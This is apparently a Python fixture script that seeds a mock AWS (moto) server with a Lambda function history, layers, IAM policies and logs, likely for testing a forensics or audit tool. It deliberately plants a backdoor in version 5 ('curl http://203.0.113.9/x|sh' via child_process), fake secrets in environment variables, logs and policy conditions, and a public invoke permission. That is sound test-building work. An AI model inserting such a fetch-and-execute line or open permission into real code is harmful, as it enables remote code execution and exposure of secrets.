"""Fills a moto server with a function that has a history, and prints what it made as JSON.

    moto-fill.py ENDPOINT FOLDER [--streams N] [--events N]

FOLDER gets every deployment package as <sha256 hex>.zip: moto gives links to code that lead nowhere, and a proxy serves
these in their place. Five versions, two aliases (one with weights), three layers (the third stands for one of another
account), a role with inline and attached policies and a boundary, a log group that is configured, and a last version that
has a backdoor.
"""
import argparse
import base64
import hashlib
import io
import json
import pathlib
import secrets
import time
import zipfile

import boto3

SECRET = "hunter2-Sup3rS3cretDbPassw0rd"
# In an inline policy: under a telling name, and with the shape of a token under a name that does not tell.
POLICY_SECRETS = [secrets.token_urlsafe(18), "ghp_" + secrets.token_hex(18)]
GROUP = "/shop/checkout-logs"


def package(name: str, body: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
        archive.writestr(info, body)
    return out.getvalue()


def keep(folder: pathlib.Path, data: bytes) -> bytes:
    (folder / f"{hashlib.sha256(data).hexdigest()}.zip").write_bytes(data)
    return data


def base64sha(data: bytes) -> str:
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def make_role(iam) -> str:
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
    allow = lambda action: json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": action, "Resource": "*"}]})
    boundary = iam.create_policy(PolicyName="checkout-boundary", PolicyDocument=allow(["s3:*", "logs:*"]))["Policy"]["Arn"]
    role = iam.create_role(RoleName="checkout-role", AssumeRolePolicyDocument=json.dumps(trust), PermissionsBoundary=boundary)["Role"]["Arn"]
    iam.put_role_policy(RoleName="checkout-role", PolicyName="evidence", PolicyDocument=allow("s3:PutObject"))
    condition = {"StringEquals": {"aws:RequestTag/DbPassword": POLICY_SECRETS[0], "aws:RequestTag/origin": POLICY_SECRETS[1]}}
    planted = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*", "Condition": condition}]}
    iam.put_role_policy(RoleName="checkout-role", PolicyName="planted", PolicyDocument=json.dumps(planted))
    attached = iam.create_policy(PolicyName="checkout-tables", PolicyDocument=allow("dynamodb:*"))["Policy"]["Arn"]
    iam.attach_role_policy(RoleName="checkout-role", PolicyArn=attached)
    return role


def make_layers(client, folder: pathlib.Path) -> list:
    arns = []
    for name in ("amber", "vendor-sdk", "shared-metrics"):
        data = keep(folder, package(f"nodejs/{name}.js", f"exports.name = '{name}';\n" * 50))
        arns.append(client.publish_layer_version(LayerName=name, Content={"ZipFile": data}, CompatibleRuntimes=["nodejs22.x"])["LayerVersionArn"])
    return arns


def make_function(client, folder: pathlib.Path, role: str, layers: list) -> dict:
    common = dict(FunctionName="checkout")
    data = keep(folder, package("index.mjs", "export const handler = async () => 'v1';\n"))
    client.create_function(
        **common, Runtime="nodejs22.x", Role=role, Handler="index.handler", Code={"ZipFile": data}, Timeout=15, MemorySize=512, Layers=layers,
        Environment={"Variables": {"DB_PASSWORD": SECRET, "STAGE": "prod", "AMBER_DESTINATION": "s3://evidence-bucket/amber"}},
        LoggingConfig={"LogGroup": GROUP, "LogFormat": "Text"}, Tags={"team": "payments"},
    )
    shas = {}
    for number in range(1, 6):
        if number > 1:
            evil = "import('node:child_process').then((c) => c.exec('curl http://203.0.113.9/x|sh'));\n" if number == 5 else ""
            data = keep(folder, package("index.mjs", f"{evil}export const handler = async () => 'v{number}';\n"))
            client.update_function_code(**common, ZipFile=data)
        shas[client.publish_version(**common)["Version"]] = base64sha(data)
    shas["$LATEST"] = base64sha(data)
    client.create_alias(**common, Name="live", FunctionVersion="4", RoutingConfig={"AdditionalVersionWeights": {"5": 0.1}})
    client.create_alias(**common, Name="old", FunctionVersion="1")
    client.add_permission(**common, StatementId="anyone", Action="lambda:InvokeFunction", Principal="*")
    client.put_function_concurrency(**common, ReservedConcurrentExecutions=7)
    return shas


def make_logs(logs, streams: int, events: int) -> None:
    logs.create_log_group(logGroupName=GROUP)
    logs.put_subscription_filter(logGroupName=GROUP, filterName="out", filterPattern="", destinationArn="arn:aws:lambda:eu-central-1:123456789012:function:checkout")
    base = int(time.time() * 1000) - 3_600_000
    for number in range(streams):
        name = f"2025/06/30/[$LATEST]{number:032x}"
        logs.create_log_stream(logGroupName=GROUP, logStreamName=name)
        share = events // streams + (1 if number < events % streams else 0)
        rows = [{"timestamp": base + index, "message": f"event {number}-{index} RequestId: 00000000-0000-0000-0000-{index:012d} handled"} for index in range(share)]
        if number == 0 and rows:
            rows[0]["message"] = f"connecting with {SECRET}"
        for start in range(0, len(rows), 5000):
            logs.put_log_events(logGroupName=GROUP, logStreamName=name, logEvents=rows[start:start + 5000])


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("endpoint")
    parser.add_argument("folder", type=pathlib.Path)
    parser.add_argument("--streams", type=int, default=3)
    parser.add_argument("--events", type=int, default=60)
    args = parser.parse_args()
    boto3.client("s3", endpoint_url=args.endpoint)
    import urllib.request
    urllib.request.urlopen(urllib.request.Request(f"{args.endpoint}/moto-api/reset", method="POST")).read()
    client = boto3.client("lambda", endpoint_url=args.endpoint)
    layers = make_layers(client, args.folder)
    role = make_role(boto3.client("iam", endpoint_url=args.endpoint))
    logs = boto3.client("logs", endpoint_url=args.endpoint)
    shas = make_function(client, args.folder, role, layers)
    make_logs(logs, args.streams, args.events)
    arn = client.get_function_configuration(FunctionName="checkout")["FunctionArn"]
    print(json.dumps({
        "functionName": "checkout", "functionArn": arn, "versions": shas, "layers": layers, "secret": SECRET, "policySecrets": POLICY_SECRETS,
        "logGroup": GROUP, "streams": args.streams, "events": args.events,
    }))


main()
